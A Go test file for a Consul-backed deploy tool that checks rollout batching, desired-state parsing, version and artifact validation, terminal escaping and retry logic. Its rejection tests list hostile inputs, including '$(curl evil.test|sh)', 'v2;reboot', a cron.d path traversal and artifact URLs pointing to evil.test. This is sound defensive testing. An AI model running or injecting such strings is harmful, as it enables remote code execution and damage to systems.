package deploy

import (
	"context"
	"errors"
	"fmt"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/hashicorp/consul/api"

	"github.com/consul-rehydrate/consul-rehydrate/config"
	"github.com/consul-rehydrate/consul-rehydrate/internal/coord"
	"github.com/consul-rehydrate/consul-rehydrate/internal/printable"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestPick_NeverTakesMoreThanMaxUnavailableOutOfPassing(t *testing.T) {
	tests := []struct {
		name           string
		todo, out      []string
		batch, maxUnav int
		want           int
	}{
		{"one at a time", []string{"a", "b", "c"}, nil, 1, 1, 1},
		{"batch bounded by max unavailable", []string{"a", "b", "c"}, nil, 3, 2, 2},
		{"max unavailable bounded by batch", []string{"a", "b", "c"}, nil, 2, 3, 2},
		{"batch larger than what is left", []string{"a"}, nil, 5, 5, 1},
		{"another node is out: no room", []string{"a", "b"}, []string{"z"}, 1, 1, 0},
		{"another node is out: less room", []string{"a", "b", "c"}, []string{"z"}, 3, 2, 1},
		{"a node that is out costs nothing", []string{"a", "b"}, []string{"a"}, 2, 1, 1},
		{"nodes that are out cost nothing", []string{"a", "b"}, []string{"a", "b"}, 2, 1, 2},
		{"out nodes at the front, then room for one", []string{"a", "b", "c"}, []string{"a", "b"}, 3, 2, 2},
		{"order is kept: no skipping a node for lack of room", []string{"a", "b", "c"}, []string{"c", "z"}, 3, 2, 0},
		{"already over the limit", []string{"a"}, []string{"x", "y", "z"}, 1, 1, 0},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			assert.Equal(t, tt.want, pick(tt.todo, tt.out, tt.batch, tt.maxUnav))
		})
	}
}

func TestParseDesired_AcceptsOnlyAnIDAVersionAndAnArtifact(t *testing.T) {
	d, err := ParseDesired([]byte(`{"id":"20261123T101500Z-ab12cd","version":"1.4.2","artifact":"s3://bucket/web-1.4.2.tar.gz"}`))
	require.NoError(t, err)
	assert.Equal(t, Desired{ID: "20261123T101500Z-ab12cd", Version: "1.4.2", Artifact: "s3://bucket/web-1.4.2.tar.gz"}, d)
	sum := strings.Repeat("0123456789abcdef", 4)
	d, err = ParseDesired([]byte(`{"id":"x","version":"1.4.2-rc.1+build.5","sha256":"` + sum + `"}`))
	require.NoError(t, err)
	assert.Equal(t, Desired{ID: "x", Version: "1.4.2-rc.1+build.5", SHA256: sum}, d)

	bad := []struct{ value, want string }{
		{``, "not a JSON object"},
		{`v2`, "not a JSON object"},
		{`null`, "missing id"},
		{`[]`, "not a JSON object"},
		{`{"id":1,"version":"v2"}`, "not a JSON object"},
		{`{"version":"v2"}`, "missing id"},
		{`{"id":"","version":"v2"}`, "missing id"},
		{`{"id":"x"}`, "missing version"},
		{`{"id":"x","version":"v2","extra":1}`, `unknown field "extra"`},
		{`{"id":"x","version":"v2"} {}`, "more than one JSON value"},
		{`{"id":"../x","version":"v2"}`, "id"},
		{`{"id":"x y","version":"v2"}`, "id"},
		{`{"id":"x","version":"v 2"}`, `version "v 2" must be 1 to 128 characters of A-Z, a-z, 0-9 and . _ + -`},
		{`{"id":"x","version":"v2\n"}`, `version "v2\n" must be`},
		{`{"id":"x","version":"` + strings.Repeat("9", 129) + `"}`, "1 to 128 characters"},
		{`{"id":"x","version":"v2","sha256":"abc"}`, `sha256 "abc" must be 64 hex digits`},
		{`{"id":"x","version":"v2","sha256":"` + strings.Repeat("g", 64) + `"}`, "must be 64 hex digits"},
		{`{"id":"x","version":"v2","sha256":"` + strings.Repeat("a", 65) + `"}`, "must be 64 hex digits"},
		{`{"id":"x","version":"v2","artifact":"a\u0000b"}`, "artifact"},
		{`{"id":"x","version":"v2","artifact":"` + strings.Repeat("a", 70<<10) + `"}`, "the limit"},
	}
	for _, b := range bad {
		_, err := ParseDesired([]byte(b.value))
		require.ErrorIs(t, err, ErrBadDesired, b.value)
		assert.Contains(t, err.Error(), b.want, b.value)
	}
}

func TestCheckVersion_AcceptsPlainVersionsOnly(t *testing.T) {
	for _, v := range []string{"v2", "1.4.2", "1.4.2-rc.1+build.5", "2026.01.15_1", "V", strings.Repeat("9", 128)} {
		assert.NoError(t, CheckVersion(v), v)
	}
	// What a hostile desired, current or status writer would try: paths, shell,
	// options, terminal escapes, and what a command would put in a URL or argv.
	for _, v := range []string{
		"", "../../etc/cron.d/x", "..", "1..2", "a/b", "/abs", `a\b`, "$(curl evil.test|sh)", "`id`", "v2;reboot",
		"v2&&x", "v2|x", "v2>x", "v2<x", "'v2'", `"v2"`, "v2 x", "-rf", "+x", ".hidden", "_x", "v2\n", "v2\x1b[2J",
		"v2\x00", "v\u202e2", "ü", "v2*", "v2?", "v2#", "v2~", "v2=1", "v2:1", "v2@x", "v2%20", "v2{a,b}", "v2!",
		strings.Repeat("9", 129),
	} {
		err := CheckVersion(v)
		require.Error(t, err, "%q", v)
		_, err = ParseDesired([]byte(`{"id":"x","version":` + strconv.Quote(v) + `}`))
		assert.ErrorIs(t, err, ErrBadDesired, "%q", v)
	}
}

func TestAllowed_HoldsADesiredValueToItsDeployBlock(t *testing.T) {
	sum := strings.Repeat("ab", 32)
	open := &config.DeployConfig{Service: "web"}
	pinned := &config.DeployConfig{Service: "web", RequireSHA256: true}
	listed := &config.DeployConfig{Service: "web", Artifacts: []string{"https://releases.example.com/web/*", "/srv/web/*.tar.gz"}}

	assert.NoError(t, Allowed(open, Desired{ID: "x", Version: "v2", Artifact: "anything at all"}), "no allow-list: any artifact")
	assert.NoError(t, Allowed(pinned, Desired{ID: "x", Version: "v2", SHA256: sum}))
	assert.NoError(t, Allowed(listed, Desired{ID: "x", Version: "v2", Artifact: "https://releases.example.com/web/web-2.tar.gz"}))
	assert.NoError(t, Allowed(listed, Desired{ID: "x", Version: "v2", Artifact: "https://releases.example.com/web/web-2.tar.gz?X-Amz-Signature=ab12"}))
	assert.NoError(t, Allowed(listed, Desired{ID: "x", Version: "v2", Artifact: "/srv/web/web-2.tar.gz"}))

	refused := []struct {
		dc       *config.DeployConfig
		artifact string
		sha      string
		want     string
	}{
		{pinned, "", "", "no sha256, and deploy.web.require_sha256 is set"},
		{listed, "", "", "no artifact, and deploy.web.artifacts is set"},
		{listed, "https://evil.test/web/web-2.tar.gz", "", `artifact "https://evil.test/web/web-2.tar.gz" matches none of deploy.web.artifacts`},
		{listed, "https://releases.example.com/web/2/web.tar.gz", "", "matches none"},
		{listed, "https://releases.example.com/webx/web.tar.gz", "", "matches none"},
		{listed, "https://releases.example.com.evil.test/web/x", "", "matches none"},
		{listed, "https://releases.example.com/web/..", "", `has ".."`},
		{listed, "https://releases.example.com/web/%2e%2e", "", `has "%2e"`},
		{listed, "https://releases.example.com/web/%2F..%2fadmin", "", `has ".."`},
		{listed, "https://releases.example.com/web/%2Fadmin", "", `has "%2f"`},
		{listed, `https://releases.example.com/web/x\..\admin`, "", `has ".."`},
		{listed, `https://releases.example.com/web/x\admin`, "", `has '\\'`},
		{listed, "https://releases.example.com/web/x@evil.test", "", `has '@'`},
		{listed, "https://releases.example.com/web/x#y", "", `has '#'`},
		{listed, "https://releases.example.com/web/x y", "", "has a space"},
		{listed, "/srv/web/ü.tar.gz", "", "outside printable ASCII"},
	}
	for _, r := range refused {
		err := Allowed(r.dc, Desired{ID: "x", Version: "v2", Artifact: r.artifact, SHA256: r.sha})
		require.ErrorIs(t, err, ErrRefused, r.artifact)
		assert.Contains(t, err.Error(), r.want, r.artifact)
	}
}

func TestShown_EscapesWhatWouldDriveATerminal(t *testing.T) {
	for in, want := range map[string]string{
		"v2":                       "v2",
		"ip-10-0-1-7.ec2.internal": "ip-10-0-1-7.ec2.internal",
		"plain words, and ü":       "plain words, and ü",
		"\x1b[2J\x1b[31mv9":        `\x1b[2J\x1b[31mv9`,
		"\x1b]0;owned\x07":         `\x1b]0;owned\a`,
		"a\nb\tc\rd":               `a\nb\tc\rd`,
		"\u202eevil":               `\u202eevil`,
		"bad\xffutf8":              `bad\xffutf8`,
		"\x00\x7f\u0085":           `\x00\x7f\u0085`,
	} {
		got := printable.String(in)
		assert.Equal(t, want, got, "%q", in)
		for _, r := range got {
			assert.True(t, r == '\uFFFD' || unicode.IsPrint(r), "%q left %q in %q", in, r, got)
		}
	}
}

func TestParseDesiredKey_SplitsOnlyTheLayoutsKeys(t *testing.T) {
	svc, node, err := ParseDesiredKey("deploy/web/nodes/ip-10-0-1-7.ec2.internal/desired")
	require.NoError(t, err)
	assert.Equal(t, "web", svc)
	assert.Equal(t, "ip-10-0-1-7.ec2.internal", node)
	for _, key := range []string{
		"", "deploy/web/nodes/n1/status", "deploy/web/n1/desired", "deploy//nodes/n1/desired",
		"rehydrate/web/nodes/n1/desired", "deploy/web/nodes/../desired", "deploy/web/nodes/n1/x/desired",
		"deploy/web/nodes/../../x/desired", "deploy/we b/nodes/n1/desired",
	} {
		_, _, err := ParseDesiredKey(key)
		assert.ErrorIs(t, err, ErrBadDesired, key)
	}
}

func TestLastLines_KeepsTheEndOfTheOutput(t *testing.T) {
	assert.Equal(t, "c\nd", lastLines("a\nb\nc\nd\n\n", 2))
	assert.Equal(t, "a\nb", lastLines("a\nb", 5))
}

func TestRetry_RidesOutServerErrorsButNotRefusals(t *testing.T) {
	ctx := context.Background()
	assert.True(t, transient(ctx, api.StatusError{Code: 500, Body: "leadership lost while committing log"}))
	assert.True(t, transient(ctx, fmt.Errorf("write x: %w", errors.New("connection refused"))))
	assert.False(t, transient(ctx, fmt.Errorf("write x: %w", api.StatusError{Code: 403, Body: "Permission denied"})))
	assert.False(t, transient(ctx, coord.ErrLockHeld))
	assert.False(t, transient(ctx, context.DeadlineExceeded))
	done, cancel := context.WithCancel(ctx)
	cancel()
	assert.False(t, transient(done, errors.New("connection refused")))

	calls := 0
	err := retry(ctx, func() error {
		if calls++; calls < 3 {
			return api.StatusError{Code: 500, Body: "No cluster leader"}
		}
		return nil
	})
	require.NoError(t, err)
	assert.Equal(t, 3, calls)

	calls = 0
	err = retry(ctx, func() error { calls++; return api.StatusError{Code: 403, Body: "Permission denied"} })
	require.Error(t, err)
	assert.Equal(t, 1, calls, "a refusal is not retried")
}

func TestConsulErr_ClassesByWhyTheContextEnded(t *testing.T) {
	read := errors.New("read deploy/web/rollout: connection reset")

	err := consulErr(context.Background(), read)
	assert.ErrorIs(t, err, ErrConsul)
	assert.ErrorIs(t, err, read)

	lost, cancel := context.WithCancelCause(context.Background())
	cancel(fmt.Errorf("%w: deploy/web/lock: its session was invalidated", coord.ErrLockLost))
	err = consulErr(lost, read)
	assert.ErrorIs(t, err, ErrLockLost)
	assert.ErrorIs(t, err, coord.ErrLockLost)
	assert.ErrorIs(t, err, read)
	assert.NotErrorIs(t, err, ErrTimedOut)
	assert.NotErrorIs(t, err, ErrConsul, "a stop is not Consul's failure")

	late, cancel2 := context.WithDeadline(context.Background(), time.Now().Add(-time.Second))
	defer cancel2()
	err = consulErr(late, read)
	assert.ErrorIs(t, err, ErrTimedOut)
	assert.ErrorIs(t, err, context.DeadlineExceeded)
	assert.NotErrorIs(t, err, ErrLockLost)
	assert.NotErrorIs(t, err, ErrConsul)

	interrupted, cancel3 := context.WithCancel(context.Background())
	cancel3()
	err = consulErr(interrupted, read)
	assert.ErrorIs(t, err, context.Canceled)
	assert.NotErrorIs(t, err, ErrLockLost, "an interrupt is not a lost lock")
	assert.NotErrorIs(t, err, ErrTimedOut)
}
